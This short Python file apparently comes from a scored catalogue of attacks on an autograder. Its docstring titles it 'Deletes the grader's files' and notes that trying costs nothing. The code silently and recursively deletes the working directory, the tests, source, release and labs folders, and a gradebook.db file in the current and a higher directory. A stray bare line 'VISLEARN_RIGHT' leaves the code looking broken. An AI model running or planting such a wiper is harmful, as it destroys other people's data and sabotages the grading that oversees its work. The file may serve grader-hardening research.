# ruff: noqa
# mypy: ignore-errors
"""
kind: availability
points: 10
ko: 채점기의 파일 지우기
en: Deletes the grader's files
why: nothing of it can be seen or removed, and trying costs nothing
"""

import os
import shutil

VISLEARN_RIGHT


_here = os.getcwd()
for _place in ("VISLEARN_LAB", "VISLEARN_OUT", _here, os.path.join(_here, "tests")):
    shutil.rmtree(_place, ignore_errors=True)
for _parent in (_here, os.path.dirname(os.path.dirname(os.path.dirname(_here)))):
    for _name in ("source", "release", "gradebook.db", "tests", "labs"):
        _place = os.path.join(_parent, _name)
        shutil.rmtree(_place, ignore_errors=True)
        try:
            os.remove(_place)
        except OSError:
            pass
